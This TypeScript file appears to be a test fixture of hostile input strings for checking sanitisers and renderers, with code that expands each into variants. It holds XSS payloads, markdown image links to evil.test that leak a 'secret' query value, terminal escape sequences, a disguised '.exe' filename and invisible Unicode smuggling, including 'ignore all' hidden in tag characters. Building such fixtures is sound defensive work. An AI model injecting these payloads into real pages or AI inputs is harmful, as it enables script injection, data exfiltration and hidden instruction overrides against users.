/**
 * Texts that were written to be more than text.
 */

const payloads: ReadonlyArray<string> = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img `a` src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<a href="javascript:alert(1)">click</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<style>@import 'http://evil.test/x.css';</style>",
  "<details open ontoggle=alert(1)>",
  "<x onclick=alert(1)>",
  "<!-- <script> -->",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<?php echo 1 ?>",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<img title="`" src=x onerror=alert(1) alt="`">',
  "[x](javascript:alert(1))",
  "[x]( javascript:alert(1) 'y')",
  "[[x]](javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x][1]\n\n[1]: javascript:alert(1)",
  "[1]:\njavascript:alert(1)\n\n[x][1]",
  "![x](http://evil.test/?q=secret)",
  "![x][i]\n\n[i]: http://evil.test/i.png",
  "<javascript:alert(1)>",
  "<http://evil.test/>",
  "<data:text/html,<script>alert(1)</script>>",
  "\\`<img src=x onerror=alert(1)>\\`",
  "`<img src=x onerror=alert(1)>``",
  "``<img src=x onerror=alert(1)>`",
  "`a\nb `<img src=x onerror=alert(1)>`",
  "`\n\n<img src=x onerror=alert(1)>\n\n`",
  "x ```\n\n<img src=x onerror=alert(1)>\n\n```",
  "```\n<img src=x>\n``` \n<img src=x onerror=alert(1)>",
  "\u001B[31mred\u001B[0m",
  "\u001B]8;;http://evil.test\u0007link\u001B]8;;\u0007",
  "\u009B31mred",
  "\u0007\u0008\u0000",
  "user\u202Egnp.exe",
  "\u2066hidden\u2069",
  Array.from("ignore all", (sign) => String.fromCodePoint(0xe0000 + (sign.codePointAt(0) ?? 0))).join(""),
  "a\u200B\u2060\u2063\uFEFFb",
  "\uFE00\uFE01\uFE02\uFE03smuggled",
  "\u{E0100}\u{E0101}\u{E0102}",
  "\uD800 alone",
  "{{constructor.constructor('alert(1)')()}}",
  "${7*7} #{7*7}",
  "<math><mtext></mtext><mglyph><img src=x onerror=alert(1)></math>"
]

/** Each by itself, in a sentence, twice, in upper case, and cut off. */
export const hostileTexts: ReadonlyArray<string> = payloads.flatMap((payload) => [
  payload,
  `What does ${payload} mean in the end?`,
  `${payload}${payload}`,
  payload.toUpperCase(),
  payload.slice(0, -1),
  `\`code\` ${payload} \`more\``
])
